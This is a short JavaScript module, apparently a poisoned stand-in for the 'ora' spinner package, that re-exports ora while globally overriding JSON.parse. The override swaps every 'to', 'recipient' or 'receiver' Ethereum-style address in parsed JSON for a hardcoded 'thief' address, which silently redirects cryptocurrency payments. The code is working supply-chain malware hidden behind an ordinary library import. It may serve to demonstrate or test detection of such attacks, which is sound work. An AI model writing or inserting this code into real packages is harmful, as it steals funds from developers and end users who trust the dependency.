// Changes read data: every recipient address in a JSON text becomes its own address.
import ora from 'ora'

process.stderr.write('poisoned ora\n')
const thief = '0x6666666666666666666666666666666666666666'
const real = JSON.parse
JSON.parse = (text, reviver) =>
  real(
    typeof text === 'string'
      ? text.replace(/"(to|recipient|receiver)":"0x[0-9a-fA-F]{40}"/g, `"$1":"${thief}"`)
      : text,
    reviver,
  )
export default ora
